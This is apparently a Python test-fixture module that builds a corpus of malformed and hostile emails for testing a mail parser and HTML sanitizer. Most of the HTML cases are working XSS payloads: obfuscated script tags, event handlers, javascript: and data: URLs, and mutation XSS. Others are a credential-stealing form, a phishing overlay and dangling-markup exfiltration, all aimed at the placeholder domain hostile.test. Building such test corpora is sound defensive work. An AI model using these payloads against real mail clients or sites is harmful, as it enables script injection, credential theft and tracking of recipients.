"""A generated corpus of malformed and hostile mail.

Every case is built in code, deterministically (fixed seeds, fixed dates, Message-IDs derived
from the case name), so nothing large is stored in the repository. ``CASES`` lists them in a
stable order; each has a ``name``, a one-line description of what it attacks, and ``build()``
returning the raw bytes. ``huge`` marks the one case (a 50 MiB attachment) that the fast tests
leave out.

The cases cover: broken MIME structure, wrong and unknown charsets, sizes (headers, lines,
nesting, attachments), NUL bytes and bare CRs, hostile HTML and CSS, look-alike and spoofed
senders, header injection through encoded words, odd Message-IDs and References, hostile
attachment file names and broken transfer encodings.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Final

CRLF: Final = b"\r\n"
DOMAIN: Final = "hostile.test"
HUGE_ATTACHMENT_BYTES: Final = 50 * 1024 * 1024


@dataclass(frozen=True, slots=True)
class HostileCase:
    name: str
    attacks: str
    """What the case attacks, in one line."""
    build: Callable[[], bytes]
    huge: bool = False

    def __str__(self) -> str:
        return self.name


def message_id_of(name: str) -> str:
    """The Message-ID (without brackets) that the standard headers of case ``name`` carry."""
    return f"{name}@{DOMAIN}"


# -- building blocks ---------------------------------------------------------------------


def _bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8")


def _field_name(header: bytes) -> bytes:
    return header.split(b":", 1)[0].strip().lower()


def mail(
    name: str,
    *headers: str | bytes,
    body: str | bytes = b"",
    eol: bytes = CRLF,
) -> bytes:
    """A message: standard headers (unless ``headers`` replaces them), then ``body``.

    A ``str`` body has its "\\n" turned into ``eol``; a ``bytes`` body is kept as given.
    """
    extra = [_bytes(h) for h in headers]
    replaced = {_field_name(h) for h in extra}
    standard = [
        b"From: Customer <customer@hostile.test>",
        b"To: Shop <shop@shop.test>",
        f"Subject: {name}".encode(),
        b"Date: Mon, 16 Nov 2026 10:00:00 +0100",
        f"Message-ID: <{message_id_of(name)}>".encode(),
        b"MIME-Version: 1.0",
    ]
    lines = [h for h in standard if _field_name(h) not in replaced] + extra
    content = (
        body.replace("\n", eol.decode("latin-1")).encode("utf-8") if isinstance(body, str) else body
    )
    return eol.join(lines) + eol + eol + content


def part(*headers: str | bytes, body: str | bytes = b"") -> bytes:
    """One MIME entity (headers, blank line, body) with CRLF line ends."""
    content = body.replace("\n", "\r\n").encode("utf-8") if isinstance(body, str) else body
    return CRLF.join(_bytes(h) for h in headers) + CRLF + CRLF + content


def multipart(boundary: str | bytes, parts: Sequence[bytes], *, close: bool = True) -> bytes:
    """A multipart body: ``parts`` between delimiter lines, with the closing one if ``close``."""
    delimiter = b"--" + _bytes(boundary)
    out = b"This is a multi-part message in MIME format.\r\n"
    for item in parts:
        out += delimiter + CRLF + item + CRLF
    if close:
        out += delimiter + b"--" + CRLF
    return out


def html_mail(name: str, markup: str, *, charset: str = "utf-8") -> bytes:
    """A message whose only body is ``markup`` as text/html, 8bit."""
    return mail(
        name,
        f'Content-Type: text/html; charset="{charset}"',
        "Content-Transfer-Encoding: 8bit",
        body=markup.encode("utf-8", errors="surrogatepass"),
    )


def attachment_mail(name: str, *attachment_headers: str | bytes, data: bytes = b"%PDF") -> bytes:
    """Text plus one base64 attachment whose headers are given verbatim."""
    return mail(
        name,
        'Content-Type: multipart/mixed; boundary="att"',
        body=multipart(
            "att",
            [
                part("Content-Type: text/plain; charset=utf-8", body="See the attached file."),
                part(
                    *attachment_headers,
                    "Content-Transfer-Encoding: base64",
                    body=base64.encodebytes(data),
                ),
            ],
        ),
    )


def b64_word(text: str, charset: str = "utf-8") -> str:
    """``text`` as one RFC 2047 "B" encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def nested_multipart(name: str, depth: int, *, boundary: Callable[[int], str]) -> bytes:
    """``depth`` levels of multipart/mixed around one text part (the root is level 0)."""
    inner = part("Content-Type: text/plain; charset=utf-8", body=f"the bottom of {depth} levels")
    for level in range(depth - 1, 0, -1):
        inner = part(
            f'Content-Type: multipart/mixed; boundary="{boundary(level)}"',
            body=multipart(boundary(level), [inner]),
        )
    return mail(
        name,
        f'Content-Type: multipart/mixed; boundary="{boundary(0)}"',
        body=multipart(boundary(0), [inner]),
    )


# -- the cases ---------------------------------------------------------------------------

CASES: list[HostileCase] = []


def _case(name: str, attacks: str, build: Callable[[], bytes], *, huge: bool = False) -> None:
    if any(existing.name == name for existing in CASES):
        raise ValueError(f"duplicate case name {name}")
    CASES.append(HostileCase(name, attacks, build, huge))


def _text_part(text: str = "Hello.") -> bytes:
    return part("Content-Type: text/plain; charset=utf-8", body=text)


# MIME structure ------------------------------------------------------------------------

_case(
    "boundary_missing_close",
    "multipart without its closing delimiter: the last part must run to the end",
    lambda: mail(
        "boundary_missing_close",
        'Content-Type: multipart/mixed; boundary="open"',
        body=multipart(
            "open", [_text_part("first"), _text_part("last, never closed")], close=False
        ),
    ),
)
_case(
    "boundary_never_appears",
    "a boundary parameter that never occurs in the body",
    lambda: mail(
        "boundary_never_appears",
        'Content-Type: multipart/alternative; boundary="nowhere"',
        body="--elsewhere\nContent-Type: text/plain\n\ntext\n--elsewhere--\n",
    ),
)


def _boundary_inside_base64() -> bytes:
    data = base64.encodebytes(b"\x00\x10\x83" * 2000)  # "ABCD" repeats in the output
    line = data.split(b"\n", 1)[0]
    boundary = line[8:20].decode("ascii")
    fake_delimiter = b"--" + line[8:20] + b"\r\n"
    attachment = part(
        "Content-Type: application/octet-stream; name=blob.bin",
        "Content-Transfer-Encoding: base64",
        body=data.replace(b"\n", b"\r\n") + fake_delimiter + data[:200].replace(b"\n", b"\r\n"),
    )
    return mail(
        "boundary_inside_base64",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        body=multipart(boundary, [_text_part("see attachment"), attachment]),
    )


_case(
    "boundary_inside_base64",
    "the boundary string occurs inside base64 data, and once as a fake delimiter line",
    _boundary_inside_base64,
)
_case(
    "nested_same_boundary",
    "a nested multipart reuses its parent's boundary string",
    lambda: mail(
        "nested_same_boundary",
        'Content-Type: multipart/mixed; boundary="same"',
        body=multipart(
            "same",
            [
                part(
                    'Content-Type: multipart/alternative; boundary="same"',
                    body=multipart("same", [_text_part("inner text"), _text_part("inner two")]),
                ),
                _text_part("outer"),
            ],
        ),
    ),
)
_case(
    "boundary_empty_and_quoted_oddly",
    'boundary="" and an unbalanced quote in the Content-Type',
    lambda: mail(
        "boundary_empty_and_quoted_oddly",
        'Content-Type: multipart/mixed; boundary=""; boundary="unbalanced',
        body=b'--\r\nContent-Type: text/plain\r\n\r\nx\r\n----\r\n--"unbalanced\r\n',
    ),
)
_case(
    "boundary_prefix_of_other",
    'boundary "b" while a nested part uses "bb": longer delimiters must not split the outer part',
    lambda: mail(
        "boundary_prefix_of_other",
        'Content-Type: multipart/mixed; boundary="b"',
        body=multipart(
            "b",
            [
                part(
                    'Content-Type: multipart/mixed; boundary="bb"',
                    body=multipart("bb", [_text_part("inner")]),
                ),
                _text_part("outer"),
            ],
        ),
    ),
)
_case(
    "boundary_10k_long",
    "a 10,000-character boundary (RFC 2046 allows 70)",
    lambda: mail(
        "boundary_10k_long",
        f'Content-Type: multipart/mixed; boundary="{"q" * 10_000}"',
        body=multipart("q" * 10_000, [_text_part("long boundary")]),
    ),
)
_case(
    "multipart_without_parts",
    "a multipart body holding only the closing delimiter",
    lambda: mail(
        "multipart_without_parts",
        'Content-Type: multipart/mixed; boundary="none"',
        body=b"--none--\r\n",
    ),
)
_case(
    "nested_100_deep",
    "100 levels of nested multiparts",
    lambda: nested_multipart("nested_100_deep", 100, boundary=lambda level: f"level-{level}"),
)
_case(
    "nested_1000_deep",
    "1,000 levels of nested multiparts (recursion depth)",
    lambda: nested_multipart("nested_1000_deep", 1000, boundary=lambda level: f"level-{level}"),
)
_case(
    "nested_1000_deep_same_boundary",
    "1,000 nested multipart headers that all use the same boundary",
    lambda: nested_multipart("nested_1000_deep_same_boundary", 1000, boundary=lambda level: "x"),
)
_case(
    "multipart_5000_parts",
    "5,000 sibling parts (part-count cap)",
    lambda: mail(
        "multipart_5000_parts",
        'Content-Type: multipart/mixed; boundary="many"',
        body=multipart("many", [_text_part(f"part {i}") for i in range(5000)]),
    ),
)
_case(
    "multipart_digest_headerless",
    "multipart/digest parts without headers default to message/rfc822",
    lambda: mail(
        "multipart_digest_headerless",
        'Content-Type: multipart/digest; boundary="dig"',
        body=b"--dig\r\n\r\nFrom: a@b\r\n\r\nx\r\n--dig\r\n\r\n\r\n--dig--\r\n",
    ),
)
_case(
    "message_rfc822_root_broken",
    "the whole message is message/rfc822 whose inner message is cut in the headers",
    lambda: mail(
        "message_rfc822_root_broken",
        "Content-Type: message/rfc822",
        body=b"From: inner@x\r\nSubject: =?utf-8?B?",
    ),
)
_case(
    "content_type_garbage",
    "Content-Type values that are not media types",
    lambda: mail(
        "content_type_garbage",
        'Content-Type: ;;;;=;;"\\',
        "Content-Type: text/",
        "Content-Type: /plain",
        body="body",
    ),
)
_case(
    "content_type_10000_params",
    "10,000 Content-Type parameters, the charset one last",
    lambda: mail(
        "content_type_10000_params",
        "Content-Type: text/plain;"
        + "".join(f" p{i}=v{i};" for i in range(10_000))
        + " charset=utf-8",
        body="params",
    ),
)
_case(
    "duplicate_content_type",
    "two Content-Type headers, multipart first and text second",
    lambda: mail(
        "duplicate_content_type",
        'Content-Type: multipart/mixed; boundary="dup"',
        "Content-Type: text/html",
        body=multipart("dup", [_text_part("dup")]),
    ),
)
_case(
    "cte_base64_on_multipart",
    "Content-Transfer-Encoding: base64 on a multipart (forbidden by RFC 2045)",
    lambda: mail(
        "cte_base64_on_multipart",
        'Content-Type: multipart/mixed; boundary="enc"',
        "Content-Transfer-Encoding: base64",
        body=base64.encodebytes(multipart("enc", [_text_part("hidden")])),
    ),
)

# Charsets -------------------------------------------------------------------------------

_case(
    "charset_x_evil",
    'an unknown charset="x-evil" on body and header',
    lambda: mail(
        "charset_x_evil",
        "Subject: =?x-evil?Q?caf=E9_=FF?=",
        'Content-Type: text/plain; charset="x-evil"',
        "Content-Transfer-Encoding: 8bit",
        body="Grüße, déjà vu".encode("cp1252"),
    ),
)
_case(
    "charset_utf8_declared_cp1251_bytes",
    "utf-8 declared, Windows-1251 bytes sent",
    lambda: mail(
        "charset_utf8_declared_cp1251_bytes",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        body="Здравствуйте, где мой заказ? Спасибо.".encode("cp1251"),
    ),
)
_case(
    "charset_utf16_without_bom",
    "utf-16 declared, little-endian bytes without a BOM",
    lambda: mail(
        "charset_utf16_without_bom",
        "Content-Type: text/plain; charset=utf-16",
        "Content-Transfer-Encoding: base64",
        body=base64.encodebytes("Hello from UTF-16 without a byte order mark".encode("utf-16-le")),
    ),
)
_case(
    "charset_utf7_html_script",
    "UTF-7 HTML that decodes to <script> (the classic UTF-7 XSS)",
    lambda: mail(
        "charset_utf7_html_script",
        "Content-Type: text/html; charset=utf-7",
        body=b"+ADw-p+AD4-hi+ADw-/p+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
        b"+ADw-img src=+ACI-https://t.hostile.test/p.gif+ACI- onerror=+ACI-alert(1)+ACI-+AD4-",
    ),
)
_case(
    "charset_utf7_subject",
    "UTF-7 encoded words, including a broken shift sequence",
    lambda: mail(
        "charset_utf7_subject",
        "Subject: =?utf-7?Q?+AFw-r+AFw-n+-?= =?utf-7?Q?+ZeVnLIqe-?= =?utf-7?Q?+!!!?=",
        body="utf-7",
    ),
)
_case(
    "charset_not_a_text_codec",
    "charset labels naming Python bytes codecs and escapes: hex, rot13, unicode_escape, idna",
    lambda: mail(
        "charset_not_a_text_codec",
        "Subject: =?unicode_escape?Q?\\u202e\\r\\nBcc:_x?= =?hex?Q?41?= =?zlib?Q?x?=",
        'Content-Type: multipart/mixed; boundary="codec"',
        body=multipart(
            "codec",
            [
                part("Content-Type: text/plain; charset=unicode_escape", body=b"a\\u202eb\\x00c"),
                part("Content-Type: text/plain; charset=hex_codec", body=b"41424344"),
                part("Content-Type: text/plain; charset=rot13", body=b"uryyb"),
                part("Content-Type: text/plain; charset=idna", body=b"xn--80ak6aa92e.com"),
                part("Content-Type: text/plain; charset=uu_codec", body=b"begin 644 x\n"),
            ],
        ),
    ),
)
_case(
    "charset_utf32_garbage",
    "utf-32 declared over bytes that are not valid UTF-32 code points",
    lambda: mail(
        "charset_utf32_garbage",
        "Content-Type: text/plain; charset=utf-32",
        "Content-Transfer-Encoding: 8bit",
        body=b"\xff\xff\xff\xff\x00\x00\x11\x00abc\x00",
    ),
)
_case(
    "charset_label_with_nul_and_quotes",
    "a charset label holding NUL, quotes and 200 characters",
    lambda: mail(
        "charset_label_with_nul_and_quotes",
        b'Content-Type: text/plain; charset="utf-8\x00\\"' + b"x" * 200 + b'"',
        body="label",
    ),
)
_case(
    "header_raw_invalid_utf8",
    "raw 8-bit header bytes: overlong UTF-8, encoded surrogates, lone continuation bytes",
    lambda: mail(
        "header_raw_invalid_utf8",
        b"Subject: \xc0\xaf\xed\xa0\x80\x80\x80 caf\xe9 \xf4\x90\x80\x80",
        b"From: \xed\xa0\x80 <evil\xc0\xaf@hostile.test>",
        body=b"x",
    ),
)
_case(
    "encoded_words_mixed_charsets",
    "adjacent encoded words in different charsets, a character split across words",
    lambda: mail(
        "encoded_words_mixed_charsets",
        "Subject: =?utf-8?Q?=E2=82?= =?utf-8?Q?=AC?= =?koi8-r?B?8NLJ18XU?= =?x-evil?Q?=FF?="
        " =?iso-2022-jp?B?GyRCJDMkcyRLJEEkTxsoQg==?=",
        body="mixed",
    ),
)

# Sizes ----------------------------------------------------------------------------------


def _huge_attachment() -> bytes:
    data = random.Random(50).randbytes(HUGE_ATTACHMENT_BYTES)
    return mail(
        "attachment_50mb",
        'Content-Type: multipart/mixed; boundary="huge"',
        body=multipart(
            "huge",
            [
                _text_part("The catalogue is attached."),
                part(
                    'Content-Type: application/pdf; name="catalogue.pdf"',
                    'Content-Disposition: attachment; filename="catalogue.pdf"',
                    "Content-Transfer-Encoding: base64",
                    body=base64.encodebytes(data).replace(b"\n", b"\r\n"),
                ),
            ],
        ),
    )


_case("attachment_50mb", "a 50 MiB base64 attachment", _huge_attachment, huge=True)
_case(
    "header_block_10000_lines",
    "10,000 header lines before the body",
    lambda: mail(
        "header_block_10000_lines",
        *[f"X-Filler-{i}: value {i}" for i in range(10_000)],
        body="after ten thousand headers",
    ),
)
_case(
    "header_10000_folded_lines",
    "one Subject folded over 10,000 continuation lines",
    lambda: mail(
        "header_10000_folded_lines",
        "Subject: start" + "".join(f"\r\n\tword{i}" for i in range(10_000)),
        body="folded",
    ),
)
_case(
    "header_line_1mb",
    "a single 1 MiB header line",
    lambda: mail("header_line_1mb", "X-Long: " + "a" * (1024 * 1024), body="long line"),
)
_case(
    "subject_100kb",
    "a 100 KB subject: raw text followed by encoded words",
    lambda: mail(
        "subject_100kb",
        "Subject: " + "Order question " * 5200 + " ".join(b64_word("ÄÖÜ ") for _ in range(1000)),
        body="big subject",
    ),
)
_case(
    "references_10000_ids",
    "References with 10,000 message ids",
    lambda: mail(
        "references_10000_ids",
        "References: " + "\r\n ".join(f"<ref{i}@{DOMAIN}>" for i in range(10_000)),
        "In-Reply-To: <ref9999@hostile.test>",
        body="long thread",
    ),
)
_case(
    "to_5000_addresses",
    "a To header with 5,000 addresses",
    lambda: mail(
        "to_5000_addresses",
        "To: " + ",\r\n ".join(f"User {i} <user{i}@{DOMAIN}>" for i in range(5000)),
        body="many recipients",
    ),
)
_case(
    "html_3mb_single_line",
    "3 MiB of HTML on one line, a script and a remote image past the 2 MiB cut",
    lambda: html_mail(
        "html_3mb_single_line",
        "<p>"
        + "lorem ipsum " * 262_144
        + '<script>alert(1)</script><img src="https://t.hostile.test/x.gif">',
    ),
)
_case(
    "html_100000_nested_divs",
    "100,000 nested <div>s around a script",
    lambda: html_mail(
        "html_100000_nested_divs",
        "<div>" * 100_000 + "<script>alert(1)</script>deep" + "</div>" * 100_000,
    ),
)
_case(
    "html_10000_attributes",
    "one tag with 10,000 attributes, an event handler among them",
    lambda: html_mail(
        "html_10000_attributes",
        "<p "
        + " ".join(f"a{i}=x" for i in range(5000))
        + " onclick=alert(1) "
        + " ".join(f"b{i}=y" for i in range(5000))
        + ">x</p>",
    ),
)
_case(
    "html_entity_flood",
    "a megabyte of character references, invalid code points among them",
    lambda: html_mail(
        "html_entity_flood",
        "<p>" + "&amp;&#x110000;&#0;&#xD800;&lt;script&gt;" * 25_000 + "</p>",
    ),
)

# Bytes and line structure ---------------------------------------------------------------

_case(
    "nul_in_headers",
    "NUL bytes in header names and values",
    lambda: mail(
        "nul_in_headers",
        b"Subject: hello\x00world",
        b"From: Ev\x00il <ev\x00il@hostile.test>",
        b"X-N\x00ul: value",
        body=b"body",
    ),
)
_case(
    "nul_in_bodies",
    "NUL bytes in a text body and inside HTML tag names",
    lambda: mail(
        "nul_in_bodies",
        'Content-Type: multipart/alternative; boundary="nul"',
        body=multipart(
            "nul",
            [
                part("Content-Type: text/plain", body=b"abc\x00def\x00"),
                part(
                    "Content-Type: text/html",
                    body=b"<p>x</p><scr\x00ipt>alert(1)</scr\x00ipt>"
                    b"<img src=x on\x00error=alert(1)>",
                ),
            ],
        ),
    ),
)
_case(
    "bare_cr_line_endings",
    "every line ends with a bare CR",
    lambda: mail(
        "bare_cr_line_endings",
        'Content-Type: multipart/mixed; boundary="cr"',
        body=b"--cr\rContent-Type: text/plain\r\rline one\rline two\r--cr--\r",
        eol=b"\r",
    ),
)
_case(
    "mixed_line_endings",
    "CRLF, LF and CR mixed inside headers and a multipart",
    lambda: (
        b"From: a@hostile.test\r\nSubject: mixed\nContent-Type: multipart/mixed;"
        b' boundary="m"\r\r\n\n--m\rContent-Type: text/plain\n\r\nbody\r--m--\n'
    ),
)
_case(
    "no_header_body_separator",
    "headers run straight into the body without a blank line",
    lambda: (
        b"From: a@hostile.test\r\nSubject: no separator\r\nContent-Type: text/html\r\n"
        b"<p>body<script>alert(1)</script></p>\r\n"
    ),
)
_case("empty_message", "zero bytes", lambda: b"")
_case("only_blank_line", "a single CRLF: no headers, empty body", lambda: b"\r\n")
_case(
    "only_headers",
    "headers without a blank line or body, the last one unterminated",
    lambda: b"From: a@hostile.test\r\nSubject: only headers\r\nMessage-ID: <only@hostile.test>",
)
_case(
    "only_body",
    "a message that starts with a blank line: no headers at all",
    lambda: b"\r\n<script>alert(1)</script>just a body\r\n",
)
_case(
    "header_line_oddities",
    "a first line that is a continuation, a space before the colon, a header without a colon",
    lambda: (
        b" continuation first\r\nSubject : spaced\r\nNoColonHere\r\nFrom: a@hostile.test\r\n\r\nx"
    ),
)
_case(
    "mbox_from_line",
    'an mbox "From " line first and ">From" lines in the body',
    lambda: (
        b"From evil@hostile.test Mon Jan  1 00:00:00 2024\r\n"
        + mail("mbox_from_line", body=">From the body\nFrom the body\n")
    ),
)
_case(
    "random_binary",
    "64 KiB of seeded random bytes",
    lambda: random.Random(64).randbytes(64 * 1024),
)
_case(
    "random_binary_after_headers",
    "valid headers, then 64 KiB of random bytes declared as a multipart",
    lambda: mail(
        "random_binary_after_headers",
        'Content-Type: multipart/mixed; boundary="r"',
        body=random.Random(65).randbytes(64 * 1024),
    ),
)

# HTML -----------------------------------------------------------------------------------

_HTML: Final[list[tuple[str, str, str]]] = [
    (
        "html_script_tags",
        "script elements in many spellings, nested to survive naive removal",
        "<p>Hi</p><script>alert(1)</script><SCRIPT SRC=https://evil.hostile.test/x.js></SCRIPT>"
        "<scr<script>ipt>alert(2)</script><script/xss src=//evil.hostile.test/y.js></script>"
        "<p>after<script>alert(3)",
    ),
    (
        "html_event_handlers",
        "inline event handlers on many elements, odd case and separators",
        '<body onload=alert(1)><img src=cid:x onerror=alert(1)><div onmouseover="alert(1)">h</div>'
        "<a href=https://shop.test ONCLICK=alert(1)>c</a><img/src=cid:y/onerror=alert(1)>"
        "<details open ontoggle=alert(1)>d</details><p oNfOcUs=alert(1) tabindex=1>f</p>"
        '<img src=cid:z """ onerror=alert(1)><table onpointerenter=alert(1)><tr><td>t</td></tr>'
        "</table>",
    ),
    (
        "html_forms",
        "forms, inputs and buttons that post to an attacker or run script",
        '<form action="https://evil.hostile.test/steal" method=post><input name=pw type=password>'
        '<input type=hidden name=x value=y><button formaction="javascript:alert(1)">Log in</button>'
        "<textarea>t</textarea><select><option>a</option></select>"
        "<input type=image src=https://t.hostile.test/i.png><isindex action=javascript:alert(1)>"
        "<keygen autofocus onfocus=alert(1)></form>",
    ),
    (
        "html_frames_and_objects",
        "iframe (with srcdoc), object, embed, applet, frameset, portal",
        '<iframe src="https://evil.hostile.test/"></iframe>'
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>'
        '<object data="https://evil.hostile.test/x.swf"><param name=movie value=x></object>'
        '<embed src="https://evil.hostile.test/x.swf"><applet code=X></applet>'
        '<frameset><frame src="https://evil.hostile.test/"></frameset>'
        '<portal src="https://evil.hostile.test/"></portal>',
    ),
    (
        "html_meta_refresh",
        "meta refresh, Set-Cookie and a UTF-7 charset switch",
        '<html><head><meta http-equiv="refresh" content="0;url=https://evil.hostile.test/">'
        '<meta http-equiv=Set-Cookie content="a=b"><meta charset=utf-7><title>t</title></head>'
        "<body>refresh</body></html>",
    ),
    (
        "html_base_href",
        "a base href that would re-point relative links and images",
        '<base href="https://evil.hostile.test/"><a href="/login">login</a>'
        '<img src="tracker.gif"><base target=_blank>',
    ),
    (
        "html_link_elements",
        "link elements: stylesheet, import, prefetch, icon",
        '<link rel=stylesheet href="https://evil.hostile.test/x.css">'
        '<link rel=import href="https://evil.hostile.test/i.html">'
        '<link rel=prefetch href="https://t.hostile.test/p">'
        '<link rel=icon href="//t.hostile.test/i">'
        "<p>links</p>",
    ),
    (
        "html_remote_images",
        "remote loads through src, srcset, background, poster, lowsrc and protocol-relative URLs",
        '<img src="https://t.hostile.test/p.gif?u=1"><img src="//t.hostile.test/p.gif">'
        '<img src="HTTP://T.HOSTILE.TEST/"><img src=" https://t.hostile.test/space.gif">'
        '<img srcset="https://t.hostile.test/a.png 1x, https://t.hostile.test/b.png 2x">'
        '<picture><source srcset="https://t.hostile.test/c.png"><img src="cid:x"></picture>'
        '<video poster="https://t.hostile.test/p.png" src="https://t.hostile.test/v.mp4"></video>'
        '<audio src="https://t.hostile.test/a.mp3"></audio>'
        '<table background="https://t.hostile.test/bg.png"><tr>'
        '<td background="//t.hostile.test/bg2.png">x</td></tr></table>'
        '<body background="https://t.hostile.test/b.png">'
        '<img lowsrc="https://t.hostile.test/l.png" dynsrc="https://t.hostile.test/d.avi">',
    ),
    (
        "html_css_url",
        "url(), image-set(), CSS escapes and cursor images in style attributes and elements",
        '<div style="background:url(https://t.hostile.test/a.png)">a</div>'
        "<div style=\"background-image: URL('//t.hostile.test/b.png')\">b</div>"
        '<div style="background:u\\72l(https://t.hostile.test/c.png)">c</div>'
        "<div style=\"list-style: image-set('https://t.hostile.test/d.png' 1x)\">d</div>"
        '<div style="cursor:url(https://t.hostile.test/cur.cur),auto">f</div>'
        '<div style="background:url&#40;https://t.hostile.test/ent.png&#41;">g</div>'
        '<style>body{background:url("https://t.hostile.test/e.png")}'
        "@font-face{font-family:x;src:url(https://t.hostile.test/f.woff)}</style>",
    ),
    (
        "html_css_import",
        "@import in every spelling, also escaped",
        "<style>@import url(https://evil.hostile.test/a.css); @import 'https://evil.hostile.test/b.css';"
        ' @IMPORT "//evil.hostile.test/c.css"; p{color:red}</style>'
        "<style>@im\\port url(https://evil.hostile.test/d.css);</style>"
        '<p style="@import url(https://evil.hostile.test/e.css)">import</p>',
    ),
    (
        "html_css_overlay",
        "a position:fixed overlay covering the window with a fake login link",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;'
        'background:white">Your account is locked. <a href="https://evil.hostile.test/login">'
        "Log in</a></div><p>real text</p>",
    ),
    (
        "html_css_hidden_text",
        "text hidden with display:none, zero font size and white on white",
        '<span style="display:none">hidden keyword stuffing</span>'
        '<span style="font-size:0">zero</span><span style="color:#fff;background:#fff">white</span>'
        '<p style="visibility:hidden">invisible</p><p>visible</p>',
    ),
    (
        "html_css_expression",
        "expression(), behavior and -moz-binding, also split by comments",
        '<div style="width: expression(alert(1))">x</div>'
        '<div style="width: expr/**/ession(alert(1))">y</div>'
        '<div style="-moz-binding:url(https://evil.hostile.test/x.xml#xss)">z</div>'
        '<div style="behavior: url(https://evil.hostile.test/x.htc)">b</div>'
        "<style>p{width:expression(alert(1))}</style>",
    ),
    (
        "html_javascript_links",
        "javascript: URLs obfuscated with entities, tabs, newlines, case and leading junk",
        '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>'
        '<a href="jav&#x09;ascript:alert(1)">c</a><a href="jav&#x0A;ascript:alert(1)">d</a>'
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>'
        '<a href="&#x6A;avascript&colon;alert(1)">f</a><a href="  javascript:alert(1)">g</a>'
        '<a href="\x01javascript:alert(1)">h</a><a href="javascript&#0000058alert(1)">i</a>'
        '<a href="java&NewLine;script:alert(1)">j</a><a href=javascript:alert(1)>k</a>'
        '<img src="javascript:alert(1)"><a href="https://shop.test/">safe</a>',
    ),
    (
        "html_vbscript_links",
        "vbscript: URLs, plain and entity-encoded",
        '<a href="vbscript:msgbox(1)">a</a><a href="VBScript&#58;msgbox(1)">b</a>'
        '<a href="vb&#x09;script:msgbox(1)">c</a><img src="vbscript:msgbox(1)">',
    ),
    (
        "html_data_urls",
        "data: URLs in links, images, frames and objects, also entity-obfuscated",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'
        '<a href="da&#x09;ta:text/html,<script>alert(1)</script>">b</a>'
        '<a href="DATA:text/html,x">c</a>'
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
    ),
    (
        "html_svg_script",
        "SVG with script, foreignObject, xlink:href, animate and image href",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
        "<foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>"
        '<a xlink:href="javascript:alert(1)"><text>x</text></a>'
        "<animate attributeName=href to=javascript:alert(1) />"
        '<image href="https://t.hostile.test/s.png" /></svg><p>after svg</p>',
    ),
    (
        "html_mathml",
        "MathML with xlink:href and maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        '<mi xlink:href="data:x,<script>alert(1)</script>">y</mi></math><p>after math</p>',
    ),
    (
        "html_comments_and_cdata",
        "conditional comments, CDATA, a comment closed with --!> and a processing instruction",
        "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>"
        "<!-- --!><script>alert(2)</script> -->"
        '<?xml-stylesheet href="https://evil.hostile.test/x.xsl"?><p>comments</p>',
    ),
    (
        "html_mutation_xss",
        "mutation XSS: markup that changes meaning when parsed twice (noscript, svg style, mglyph)",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
        "<svg><style><img src=x onerror=alert(1)></style></svg>"
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "html_raw_text_breakout",
        "textarea, xmp, title and plaintext used to smuggle markup",
        "<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp>"
        "<title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(1)>"
        "</noembed><plaintext><script>alert(1)</script>",
    ),
    (
        "html_style_breakout",
        "a style element closed early to inject markup, and style inside svg",
        "<style>p{color:red}</style ><img src=x onerror=alert(1)><style>/*</style><script>"
        "alert(1)</script>*/</style>",
    ),
    (
        "html_dangling_markup",
        "an unclosed attribute that would swallow the rest of the page into a URL",
        '<p>Hello</p><img src="https://evil.hostile.test/?steal=<p>secret order 123</p>'
        "<a href='https://evil.hostile.test/?",
    ),
    (
        "html_ping_and_target",
        "hyperlink auditing (ping), target=_top, rel=opener and image maps",
        '<a href="https://shop.test" ping="https://t.hostile.test/ping" target=_top rel=opener>'
        'shop</a><map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>'
        '<img src="cid:m" usemap="#m">',
    ),
    (
        "html_attribute_obfuscation",
        "event handlers behind odd whitespace, slashes and backticks",
        "<img src=x\x0bonerror=alert(1)><img src=x\x0conerror=alert(1)>"
        "<img src=`x`onerror=alert(1)>"
        '<img src="x"/onerror="alert(1)"><a href="https://shop.test"\nonclick=alert(1)>a</a>',
    ),
    (
        "html_entity_encoded_tags",
        "tags hidden behind entities and full-width brackets (must stay text)",
        "&lt;script&gt;alert(1)&lt;/script&gt; ＜script＞alert(1)＜/script＞ "
        "&#60;img src=x onerror=alert(1)&#62;",
    ),
]

for _name, _attacks, _markup in _HTML:
    _case(_name, _attacks, lambda name=_name, markup=_markup: html_mail(name, markup))

_case(
    "html_in_text_plain",
    "HTML with scripts and remote images labelled text/plain",
    lambda: mail(
        "html_in_text_plain",
        "Content-Type: text/plain; charset=utf-8",
        body='<html><body><script>alert(1)</script><p>Hi</p><img src="https://t.hostile.test/p.gif"'
        " onerror=alert(1)></body></html>",
    ),
)
_case(
    "html_utf16le_script",
    "UTF-16LE HTML without a BOM, a script inside",
    lambda: mail(
        "html_utf16le_script",
